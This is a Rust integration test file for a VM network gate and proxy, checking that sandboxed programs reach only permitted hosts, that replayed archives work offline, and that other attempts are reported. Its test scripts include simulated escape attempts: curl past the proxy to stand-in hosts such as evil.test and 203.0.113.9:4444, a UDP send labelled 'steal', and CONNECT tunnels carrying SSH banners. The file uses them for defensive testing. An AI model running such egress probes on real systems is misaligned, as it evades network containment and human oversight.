//! The gate with real VMs: root's and an ordinary user's. A program in the VM reaches what the proxy lets it reach, and nothing else;
//! what else it tries is told.
#![expect(clippy::unwrap_used, reason = "test code: a failure is a failure of the test")]

mod support;

use fvm_kit::{Lab, Ran, User, is_root};
use std::path::PathBuf;
use std::process::Command;
use std::sync::OnceLock;
use support::{Server, respond};

/// The example `plug`, where everybody may execute it.
fn plug() -> PathBuf {
    static BUILT: OnceLock<PathBuf> = OnceLock::new();
    let built = BUILT.get_or_init(|| {
        let test = std::env::current_exe().unwrap();
        let profile = test.parent().and_then(std::path::Path::parent).unwrap().to_owned();
        let mut build = Command::new(env!("CARGO"));
        build.args(["build", "--quiet", "--package", "fvm-webtest", "--example", "plug"]);
        if profile.ends_with("release") {
            build.arg("--release");
        }
        assert!(build.current_dir(env!("CARGO_MANIFEST_DIR")).status().unwrap().success());
        profile.join("examples/plug")
    });
    built.clone()
}

struct Plugged {
    lab: Lab,
    program: PathBuf,
}

impl Plugged {
    fn new(user: User) -> Self {
        let lab = Lab::new(user);
        let program = lab.path("plug");
        fvm_kit::install(&plug(), &program);
        Self { lab, program }
    }

    /// Runs a script in a VM; what it printed, and the example's report.
    fn run(&self, allow: &str, script: &str) -> (String, serde_json::Value) {
        let mut command = self.lab.command(&self.program);
        command.args([self.lab.home(), self.lab.path("run")]).args([allow, "sh", "-c", script]);
        let ran = Ran::of(command.output().unwrap()).expect(0);
        let (said, report) = ran.out.split_at(ran.out.rfind("{\"ended\"").expect("it reports"));
        (said.trim_end().to_owned(), serde_json::from_str(report).unwrap())
    }
}

fn foreign(report: &serde_json::Value) -> Vec<String> {
    let one = |f: &serde_json::Value| {
        format!("{} {} {}", f["protocol"].as_str().unwrap(), f["to"].as_str().unwrap(), f["began"].as_str().unwrap())
    };
    report["foreign"].as_array().unwrap().iter().map(|f| one(f).trim_end().to_owned()).collect()
}

fn site() -> Server {
    Server::new(|asked, stream| respond(stream, "200 OK", &[], format!("you asked for {}", asked.path).as_bytes()))
}

#[test]
fn root_and_user_reach_what_the_proxy_lets_them_reach() {
    if !is_root("root_and_user_reach_what_the_proxy_lets_them_reach") {
        return;
    }
    let site = site();
    for user in [User::Root, User::Ordinary] {
        let lab = Plugged::new(user);
        let (said, report) = lab.run("127.0.0.0/8", &format!("curl -sS http://{}/x http://{}/y", site.at, site.at));
        assert_eq!(said, "you asked for /xyou asked for /y", "{user:?}");
        assert_eq!(foreign(&report), Vec::<String>::new(), "{user:?}");
        // Without leave, this machine is out of reach, also through a tunnel.
        let before = site.asked();
        let script = format!(
            "curl -s -o /dev/null -o /dev/null -w '%{{http_code}} ' http://{0}/ http://localhost:{1}/; curl -sS -o /dev/null -p http://{0}/ 2>&1; true",
            site.at,
            site.at.port()
        );
        let (said, report) = lab.run("-", &script);
        let refused = |host: &str| serde_json::json!([format!("{host}:{}", site.at.port()), "forbidden-address"]);
        assert_eq!(report["refused"], serde_json::json!([refused("127.0.0.1"), refused("localhost")]), "{user:?}");
        assert!(said.starts_with("403 403") && said.contains("response 403"), "{user:?}: {said}");
        assert_eq!(site.asked(), before, "{user:?}");
    }
}

#[test]
fn root_and_user_reach_nothing_beside_the_proxy_and_what_they_try_is_told() {
    if !is_root("root_and_user_reach_nothing_beside_the_proxy_and_what_they_try_is_told") {
        return;
    }
    let site = site();
    let script = format!(
        r"
        c() {{ curl -s --noproxy '*' --max-time 5 -o /dev/null http://$1/ && echo reached $1; }}
        c {site}; c 203.0.113.9:4444; c '[2001:db8::5]:81'; c evil.test:80; c 203.0.113.9:4444
        python3 - <<'EOF'
import socket
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.sendto(b'steal\x01', ('198.51.100.7', 5353))
for to in [('127.0.0.1', 9), ('198.51.100.7', 22)]:
    try:
        socket.create_connection(to, 5)
        print('reached', to)
    except ConnectionRefusedError:
        print('refused')
l = socket.create_server(('127.0.0.1', 7777))
c = socket.create_connection(('127.0.0.1', 7777))
c.sendall(b'own')
print(l.accept()[0].recv(3))
EOF
        ",
        site = site.at
    );
    for user in [User::Root, User::Ordinary] {
        let (said, report) = Plugged::new(user).run("-", &script);
        // Its own loopback is its own.
        assert_eq!(said, "refused\nrefused\nb'own'", "{user:?}");
        let told = foreign(&report);
        for wanted in
            ["tcp 203.0.113.9:4444", "tcp [2001:db8::5]:81", "udp 198.51.100.7:5353 steal\\x01", "tcp 198.51.100.7:22"]
        {
            assert_eq!(told.iter().filter(|one| *one == wanted).count(), 1, "{user:?}: {wanted}: {told:?}");
        }
        // Where its own resolver is depends on the machine; if that is its loopback, nothing of it is foreign.
        let looked_up = told.iter().filter(|one| one.ends_with("looks up evil.test")).count();
        assert!(told.len() - looked_up == 4, "{user:?}: {told:?}");
    }
    assert_eq!(site.asked(), 0);
}

#[test]
fn root_and_user_are_told_of_connections_that_no_page_makes_a_browser_ask_for() {
    if !is_root("root_and_user_are_told_of_connections_that_no_page_makes_a_browser_ask_for") {
        return;
    }
    let site = site();
    let script = format!(
        r"
        curl -sS -p http://{site}/socket; curl -sS -o /dev/null -w ' %{{http_code}} ' http://{ip}:25/
        python3 - <<'EOF'
import socket
def tunnel(to, says):
    s = socket.create_connection(('127.0.0.1', 3128))
    s.sendall(b'CONNECT ' + to + b' HTTP/1.1\r\nHost: x\r\n\r\n')
    status = s.recv(1000).split(b' ')[1]
    for n in range(len(says)):
        s.sendall(says[n:n + 1])
    s.shutdown(socket.SHUT_WR)
    while s.recv(1000):
        pass
    print(status.decode())
tunnel(b'{site}', b'SSH-2.0-x')
tunnel(b'{site}', b'SSH-2.0-x')
tunnel(b'{site}', b'\x16\x03\x01\x02\x00\x01\x00')
tunnel(b'{site}', b'')
tunnel(b'{ip}:22', b'')
EOF
        ",
        site = site.at,
        ip = site.at.ip()
    );
    for user in [User::Root, User::Ordinary] {
        let (said, report) = Plugged::new(user).run("127.0.0.0/8", &script);
        assert_eq!(said, "you asked for /socket 403 200\n200\n200\n200\n403", "{user:?}");
        let odd = report["odd"].as_array().unwrap().iter();
        let one = |odd: &serde_json::Value| {
            format!(
                "{} {} {}",
                odd["protocol"].as_str().unwrap(),
                odd["to"].as_str().unwrap(),
                odd["began"].as_str().unwrap()
            )
        };
        let mut odd: Vec<String> = odd.map(one).collect();
        odd.sort();
        // How many of the bytes had come when it was clear depends on the machine: the first is enough.
        assert_eq!(odd.len(), 3, "{user:?}: {odd:?}");
        assert_eq!(odd[..2], [format!("port {}:22 ", site.at.ip()), format!("port {}:25 ", site.at.ip())], "{user:?}");
        assert!(odd[2].starts_with(&format!("tunnel {} S", site.at)), "{user:?}: {odd:?}");
    }
}

#[test]
fn root_and_user_visit_a_frozen_copy_without_any_net() {
    if !is_root("root_and_user_visit_a_frozen_copy_without_any_net") {
        return;
    }
    use fvm_webtest::net::warc::write::{Exchange, Recorder};
    for user in [User::Root, User::Ordinary] {
        let lab = Plugged::new(user);
        let set = lab.lab.path("set");
        let recorder = Recorder::open(&set).unwrap();
        for url in ["http://frozen.test/page", "https://frozen.test/page"] {
            recorder.take(Exchange {
                url: url.into(),
                method: "GET".into(),
                request_head: b"GET /page HTTP/1.1\r\n\r\n".to_vec(),
                response_head: b"HTTP/1.1 200 OK\r\ncontent-type: text/plain\r\n\r\n".to_vec(),
                response_body: url.as_bytes().to_vec().into(),
                ..Exchange::default()
            });
        }
        recorder.flush().unwrap();
        let script = "curl -sS http://frozen.test/page; curl -sSk https://frozen.test/page; \
                      curl -s -o /dev/null -w ' %{http_code}' http://other.test/; true";
        let (said, report) = lab.run(&format!("replay:{}", set.display()), script);
        assert_eq!(said, "http://frozen.test/pagehttps://frozen.test/page 404", "{user:?}");
        assert_eq!(foreign(&report), Vec::<String>::new(), "{user:?}");
    }
}

#[test]
fn root_and_user_plug_a_vm_again_and_again() {
    if !is_root("root_and_user_plug_a_vm_again_and_again") {
        return;
    }
    let site = site();
    for user in [User::Root, User::Ordinary] {
        let lab = Plugged::new(user);
        let mut command = lab.lab.command(&lab.program);
        command.args([lab.lab.home(), lab.lab.path("run")]).args(["127.0.0.0/8", "curl", "-sS"]);
        let ran = Ran::of(command.arg(format!("http://{}/", site.at)).env("FVM_PLUG_TIMES", "20").output().unwrap());
        assert!(ran.expect(0).out.starts_with("you asked for /{"), "{user:?}");
    }
}

#[test]
fn root_is_told_why_a_vm_cannot_be_plugged() {
    if !is_root("root_is_told_why_a_vm_cannot_be_plugged") {
        return;
    }
    use fvm_webtest::net::Gate;
    use fvm_webtest::net::gate::{Gateway, Helper, Options};
    use fvm_webtest::net::proxy::{Live, Way};
    let gate = |helper| Gateway::start(&helper, Way::Live(Live::default()), Options::default());
    let helper = Helper { program: plug(), args: vec!["__gate".into()] };
    let started = gate(helper).unwrap();
    let why = |pid: u32| started.plug(pid).err().expect("it has this machine's network").to_string();
    assert!(why(std::process::id()).contains("--net none"));
    assert!(why(0x7FFF_FFFF).contains("it has ended"));
    let missing = gate(Helper { program: "/nowhere".into(), args: Vec::new() }).unwrap_err().to_string();
    assert!(missing.contains("/nowhere"), "{missing}");
    let other = gate(Helper { program: "/bin/true".into(), args: Vec::new() }).unwrap();
    let mut sleeper = Command::new("unshare").args(["--net", "sleep", "60"]).spawn().unwrap();
    let gone = loop {
        let error = other.plug(sleeper.id()).err().expect("its helper is gone").to_string();
        // Until it has its own network.
        if !error.contains("--net none") {
            break error;
        }
    };
    sleeper.kill().unwrap();
    sleeper.wait().unwrap();
    assert!(gone.contains("helper"), "{gone}");
}
